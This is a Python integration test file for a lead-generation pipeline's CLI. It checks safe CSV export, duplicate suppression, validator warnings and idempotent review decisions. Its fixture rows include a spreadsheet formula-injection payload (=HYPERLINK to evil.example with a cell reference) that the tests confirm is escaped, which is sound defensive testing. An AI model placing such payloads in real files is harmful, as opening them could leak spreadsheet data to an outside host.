"""Issue 13 through the real CLI: safe exports, the review screen, idempotent decisions."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from db.enums import EmailStatus, LeadStatus, Stage, StageStatus
from db.models import Email, Lead, ReviewItem, StageResult
from pipeline.campaigns.exports import FORMULA_PREFIXES
from tests.factories import make_batch

pytestmark = pytest.mark.integration

HOSTILE_ROWS = [
    '"=HYPERLINK(""http://evil.example/?d=""&A2,""x"")",,ceo@evil.test,"+Eve",CEO,Software,50,US,,',
    "@Acme Corp,,ops@acme.test,-Bob,Ops,Retail,20,US,,",
    "Plain Co,,sam@plain.test,Sam,Owner,Retail,12,US,,",
]


def _cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "workers.cli", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


@pytest.fixture
def env(db_url: str, redis_url: str, tmp_path: Path) -> dict[str, str]:
    return dict(
        os.environ,
        LEADPIPE_DATABASE_URL=db_url,
        LEADPIPE_REDIS_URL=redis_url,
        LEADPIPE_HOME=str(tmp_path / "home"),
    )


def _judge(session: Session, lead: Lead, *, status: EmailStatus, body: str) -> Email:
    """What the judge stage stores: the email, its verdict and, when held, a review item."""
    email = Email(
        lead_id=lead.id,
        run_id=lead.run_id,
        subject=f"{lead.company} and you",
        body=body,
        model="sim/cheap",
        quality=0.9 if status == EmailStatus.APPROVED else 0.5,
        status=status,
    )
    session.add(email)
    session.flush()
    verdict = {"overall": float(email.quality or 0), "gate": 0.75, "feedback": "too generic"}
    verdict |= {"professionalism": 0.6, "personalization": 0.3, "relevance": 0.5}
    session.add(
        StageResult(
            lead_id=lead.id,
            run_id=lead.run_id,
            stage=Stage.JUDGE.value,
            status=StageStatus.DONE,
            output=verdict,
        )
    )
    if status == EmailStatus.HELD:
        session.add(ReviewItem(email_id=email.id, lead_id=lead.id, reason="quality 0.50"))
    lead.status = LeadStatus.COMPLETED
    return email


def _approve_all(session: Session) -> None:
    for lead in session.scalars(select(Lead).order_by(Lead.id)):
        _judge(session, lead, status=EmailStatus.APPROVED, body=f"-{lead.company}\n@here")


def test_hostile_export_has_no_formula_cell_and_each_recipient_once(
    env: dict[str, str], session_factory: sessionmaker[Session], tmp_path: Path
) -> None:
    with session_factory() as session, session.begin():
        make_batch(session, HOSTILE_ROWS, campaign="q4")
        make_batch(session, HOSTILE_ROWS[:2], campaign="q4")  # the same export enqueued again
        _approve_all(session)
        nobody = make_batch(session, ["No Mail Ltd,nomail.test,,,,Retail,5,US,,"], campaign="q4")
        _judge(
            session,
            session.get_one(Lead, nobody.leads[0][0]),
            status=EmailStatus.APPROVED,
            body="hi",
        )
    out = tmp_path / "emails.csv"
    result = _cli(env, "export", "--campaign", "q4", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
    emails = [row[0] for row in rows[1:]]
    assert sorted(emails) == ["ceo@evil.test", "ops@acme.test", "sam@plain.test"]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert "suppressed 2 repeat(s)" in result.stderr
    assert "no deliverable address" in result.stderr
    jsonl = _cli(env, "export", "--campaign", "q4", "--format", "jsonl")
    assert len(jsonl.stdout.splitlines()) == 3


def test_validate_flags_formula_names(tmp_path: Path) -> None:
    path = tmp_path / "hostile.csv"
    header = "Company Name,Website URL,Email,First Name,Job Title,Industry,Employees,Country,x,y"
    path.write_text("\n".join([header, *HOSTILE_ROWS]) + "\n", encoding="utf-8")
    result = _cli(dict(os.environ), "validate", str(path), "--json")
    doc = json.loads(result.stdout)
    flagged = {w["row"] for w in doc["warnings"] if "formula" in w["reason"]}
    assert flagged == {2, 3}


def test_review_show_is_readable_and_decisions_are_idempotent(
    env: dict[str, str], session_factory: sessionmaker[Session]
) -> None:
    with session_factory() as session, session.begin():
        batch = make_batch(session, HOSTILE_ROWS[2:], campaign="q4")
        _judge(
            session,
            session.get_one(Lead, batch.leads[0][0]),
            status=EmailStatus.HELD,
            body="Hello Sam",
        )
        item_id = session.scalars(select(ReviewItem.id)).one()
    shown = _cli(env, "review", "show", str(item_id))
    assert shown.returncode == 0, shown.stderr
    for text in (
        "To:      Sam <sam@plain.test>",
        "Subject: Plain Co and you",
        "Hello Sam",
        "personalization 0.30",
        "Feedback: too generic",
    ):
        assert text in shown.stdout
    first = _cli(env, "review", "approve", str(item_id))
    again = _cli(env, "review", "approve", str(item_id))
    assert (first.returncode, again.returncode) == (0, 0), again.stderr
    assert "already approved" in again.stdout and "Traceback" not in again.stderr
    reject = _cli(env, "review", "reject", str(item_id))
    assert reject.returncode == 1 and "already approved" in reject.stderr
    assert "Traceback" not in reject.stderr
    exported = _cli(env, "export", "--campaign", "q4", "--format", "jsonl")
    assert [json.loads(x)["email"] for x in exported.stdout.splitlines()] == ["sam@plain.test"]
